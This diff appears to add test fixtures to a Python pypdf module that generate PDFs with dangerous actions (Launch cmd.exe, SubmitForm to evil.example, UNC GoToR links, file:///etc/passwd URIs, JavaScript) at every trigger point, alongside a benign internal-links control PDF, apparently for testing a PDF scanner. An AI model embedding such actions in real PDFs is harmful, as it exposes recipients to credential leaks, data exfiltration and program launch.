@@ -16,9 +16,11 @@ from pypdf import PdfWriter
 from pypdf.actions import JavaScript, PageTrigger
 from pypdf.generic import (
     ArrayObject,
+    BooleanObject,
     DictionaryObject,
     FloatObject,
     NameObject,
+    NumberObject,
     TextStringObject,
 )
 
@@ -212,6 +214,151 @@ def pdf_with_file_annotation() -> bytes:
                 ),
             }
         ),
+    )
+    return _pdf(writer)
+
+
+def _name(value: str) -> NameObject:
+    return NameObject(value)
+
+
+def _dictionary(**entries) -> DictionaryObject:
+    """A PDF dictionary from keyword arguments: ``S="/GoTo"`` is ``/S /GoTo``; strings that do
+    not start with "/" become text strings."""
+    return DictionaryObject(
+        {
+            NameObject(f"/{key}"): (
+                NameObject(value)
+                if isinstance(value, str) and value.startswith("/")
+                else TextStringObject(value)
+                if isinstance(value, str)
+                else value
+            )
+            for key, value in entries.items()
+        }
+    )
+
+
+def _first_page_fit(writer: PdfWriter) -> ArrayObject:
+    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+
+
+def _rect(*values) -> ArrayObject:
+    return ArrayObject([FloatObject(v) for v in values or (50, 50, 200, 80)])
+
+
+# Actions (PDF 32000-1, 12.6.4) that reach outside the document, by what each reaches.
+OUTSIDE_ACTIONS = {
+    "goto-remote-unc": lambda w: _dictionary(
+        S="/GoToR", F="\\\\evil.example\\share\\scan.pdf", D=_first_page_fit(w)
+    ),
+    "goto-embedded": lambda w: _dictionary(
+        S="/GoToE", T=_dictionary(R="/C", N="invoice.pdf"), D=_first_page_fit(w)
+    ),
+    "launch": lambda w: _dictionary(S="/Launch", F="cmd.exe"),
+    "uri-file": lambda w: _dictionary(S="/URI", URI="file:///etc/passwd"),
+    "uri-unc": lambda w: _dictionary(S="/URI", URI="\\\\evil.example\\share"),
+    "uri-relative": lambda w: _dictionary(S="/URI", URI="../secrets.txt"),
+    "submit-form": lambda w: _dictionary(
+        S="/SubmitForm", F=_dictionary(FS="/URL", F="https://evil.example/collect")
+    ),
+    "import-data": lambda w: _dictionary(S="/ImportData", F="answers.fdf"),
+    "javascript": lambda w: _dictionary(S="/JavaScript", JS="app.alert(1);"),
+    "rich-media": lambda w: _dictionary(S="/RichMediaExecute", TI=NameObject("/Null")),
+    "sound": lambda w: _dictionary(S="/Sound", Volume=FloatObject(1)),
+    "movie": lambda w: _dictionary(S="/Movie", T="clip"),
+    "rendition": lambda w: _dictionary(S="/Rendition", OP=FloatObject(0)),
+    "named-menu-item": lambda w: _dictionary(S="/Named", N="/SaveAs"),
+    "unknown": lambda w: _dictionary(S="/NoSuchAction"),
+}
+
+
+def _annotation(writer: PdfWriter, **entries) -> DictionaryObject:
+    return _dictionary(Type="/Annot", Subtype="/Link", Rect=_rect(), **entries)
+
+
+def _form_button(writer: PdfWriter, action: DictionaryObject) -> None:
+    """A push button ("ส่ง") whose press runs ``action``, in the page and the AcroForm."""
+    button = writer._add_object(
+        _dictionary(
+            Type="/Annot",
+            Subtype="/Widget",
+            FT="/Btn",
+            Ff=NumberObject(65536),
+            T="send",
+            Rect=_rect(),
+            P=writer.pages[0].indirect_reference,
+            A=action,
+        )
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([button])
+    writer.root_object[NameObject("/AcroForm")] = _dictionary(Fields=ArrayObject([button]))
+
+
+def _outline(writer: PdfWriter, action: DictionaryObject) -> None:
+    """A bookmark whose click runs ``action``."""
+    outlines = writer._add_object(_dictionary(Type="/Outlines", Count=NumberObject(1)))
+    item = writer._add_object(_dictionary(Title="หน้า 1", Parent=outlines, A=action))
+    outlines.get_object().update({NameObject("/First"): item, NameObject("/Last"): item})
+    writer.root_object[NameObject("/Outlines")] = outlines
+
+
+# Every place an action may sit: the catalog's open action and additional actions, a page's
+# additional actions, a link's action and additional actions, a form field, a bookmark, and
+# the end of a harmless action's /Next chain.
+ACTION_PLACES = {
+    "catalog-open-action": lambda w, a: w.root_object.__setitem__(NameObject("/OpenAction"), a),
+    "catalog-additional": lambda w, a: w.root_object.__setitem__(
+        NameObject("/AA"), _dictionary(WC=a)
+    ),
+    "page-additional": lambda w, a: w.pages[0].__setitem__(NameObject("/AA"), _dictionary(O=a)),
+    "link-annotation": lambda w, a: w.add_annotation(0, _annotation(w, A=a)),
+    "annotation-additional": lambda w, a: w.add_annotation(0, _annotation(w, AA=_dictionary(U=a))),
+    "form-field": _form_button,
+    "outline": _outline,
+    "next-chain": lambda w, a: w.root_object.__setitem__(
+        NameObject("/OpenAction"), _dictionary(S="/GoTo", D=_first_page_fit(w), Next=a)
+    ),
+}
+
+
+def pdf_with_action(action: str, place: str) -> bytes:
+    """A one-page PDF with the action ``OUTSIDE_ACTIONS[action]`` at ``ACTION_PLACES[place]``."""
+    writer = _writer()
+    ACTION_PLACES[place](writer, OUTSIDE_ACTIONS[action](writer))
+    return _pdf(writer)
+
+
+def pdf_with_internal_actions() -> bytes:
+    """What reports and scanned forms carry and stays inside the file: a table of contents
+    (bookmark and link to page 2), web and mail links, "next page" buttons, a field shown or
+    hidden, and an open action that shows page 1."""
+    writer = _writer()
+    writer.add_blank_page(width=595, height=842)
+    second = ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")])
+    writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/GoTo", D=second)))
+    writer.add_annotation(0, _annotation(writer, Dest=second))
+    for uri in (
+        "https://www.nakhonsawan.go.th/",
+        "http://example.go.th/",
+        "mailto:ddc@example.go.th",
+    ):
+        writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/URI", URI=uri)))
+    writer.add_annotation(0, _annotation(writer, A=_dictionary(S="/Named", N="/NextPage")))
+    writer.add_annotation(
+        0,
+        _annotation(
+            writer, AA=_dictionary(E=_dictionary(S="/Hide", T="note", H=BooleanObject(False)))
+        ),
+    )
+    _outline(writer, _dictionary(S="/GoTo", D=second))
+    writer.root_object[NameObject("/OpenAction")] = _dictionary(
+        S="/GoTo", D=_first_page_fit(writer), Next=_dictionary(S="/Named", N="/FirstPage")
+    )
+    # Tagged PDF (Word's export): structure elements' attributes sit under /A too.
+    writer.root_object[NameObject("/StructTreeRoot")] = _dictionary(
+        Type="/StructTreeRoot",
+        K=_dictionary(Type="/StructElem", S="/P", A=_dictionary(O="/Layout", Placement="/Block")),
     )
     return _pdf(writer)
 
